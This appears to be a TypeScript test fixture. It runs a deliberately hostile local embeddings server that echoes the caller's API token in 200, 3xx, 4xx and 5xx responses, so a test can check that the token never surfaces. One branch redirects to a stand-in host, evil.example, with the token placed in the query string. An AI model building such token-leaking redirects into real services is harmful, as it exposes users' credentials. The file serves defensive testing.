/**
 * An embeddings endpoint that echoes the caller's token back in every form it
 * can think of, in 200, 3xx, 4xx and 5xx answers: what a test of "the token
 * never shows" runs against. Which answer a request gets depends on a marker
 * in its texts (`mode-400`, ...), so one job over several files meets them all.
 */
import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { featureHashEmbed } from '../../lambda/embed/featureHash.ts';
import { echoesOf } from './secretLeaks.ts';

/** The answers, by the marker a text carries. `mode-413` refuses only the texts that carry it. */
export const HOSTILE_MODES = [
  'mode-200-json',
  'mode-200-text',
  'mode-200-index',
  'mode-400',
  'mode-413',
  'mode-429',
  'mode-503',
  'mode-302',
  'mode-401',
] as const;

export type HostileMode = (typeof HOSTILE_MODES)[number];

/** A running hostile endpoint. */
export interface HostileEndpoint {
  /** Base URL with `/v1`. */
  readonly url: string;
  /** Modes answered so far, in order (proof the test met them). */
  readonly answered: HostileMode[];
  /** Authorization headers received (proof the token was sent, so it could be echoed). */
  readonly authorizations: string[];
  close(): Promise<void>;
}

const DIMENSIONS = 8;

function valid(texts: readonly string[]): string {
  return JSON.stringify({
    data: texts.map((text, index) => ({ index, embedding: Array.from(featureHashEmbed(text, DIMENSIONS)) })),
    usage: { prompt_tokens: texts.length, total_tokens: texts.length },
  });
}

/** Starts the endpoint on 127.0.0.1; `token` is what it echoes (it also echoes whatever header it got). */
export async function startHostileEndpoint(token: string): Promise<HostileEndpoint> {
  const answered: HostileMode[] = [];
  const authorizations: string[] = [];
  const echoes = Object.values(echoesOf(token)).join(' | ');
  const server = http.createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      authorizations.push(request.headers.authorization ?? '');
      const echo = `${echoes} | ${request.headers.authorization ?? ''}`;
      let texts: string[] = [];
      try {
        texts = (JSON.parse(Buffer.concat(chunks).toString('utf8')) as { input: string[] }).input;
      } catch {
        texts = [];
      }
      const mode = HOSTILE_MODES.find((name) => texts.some((text) => text.includes(name)));
      if (mode !== undefined) answered.push(mode);
      const json = (status: number, body: unknown, headers: Record<string, string> = {}) =>
        response
          .writeHead(status, { 'Content-Type': 'application/json', ...headers })
          .end(JSON.stringify(body));
      switch (mode) {
        case 'mode-200-json':
          return json(200, { error: `your key ${echo} has no data for you` });
        case 'mode-200-text':
          return response.writeHead(200, { 'Content-Type': 'text/plain' }).end(`oops ${echo} oops`);
        case 'mode-200-index':
          return json(200, {
            data: texts.map((_, index) => ({ index: index === 0 ? echo : index, embedding: [0.5, 0.5] })),
          });
        case 'mode-400':
          return json(400, { error: { message: `bad request from ${echo}`, type: 'invalid_request_error' } });
        case 'mode-413':
          return json(413, { error: { message: `input too long for ${echo}` } });
        case 'mode-429':
          return json(429, { error: { message: `slow down, ${echo}` } }, { 'Retry-After': '1' });
        case 'mode-503':
          return response
            .writeHead(503, { 'Content-Type': 'text/html' })
            .end(`<html><head><title>down for ${echo}</title></head><body>${echo}</body></html>`);
        case 'mode-302':
          return response
            .writeHead(302, {
              Location: `https://evil.example/v1/embeddings?key=${encodeURIComponent(token)}`,
            })
            .end(echo);
        case 'mode-401':
          return json(401, { error: { message: `Incorrect API key provided: ${echo}` } });
        default:
          return response.writeHead(200, { 'Content-Type': 'application/json' }).end(valid(texts));
      }
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
    answered,
    authorizations,
    async close() {
      server.closeAllConnections();
      server.close();
    },
  };
}
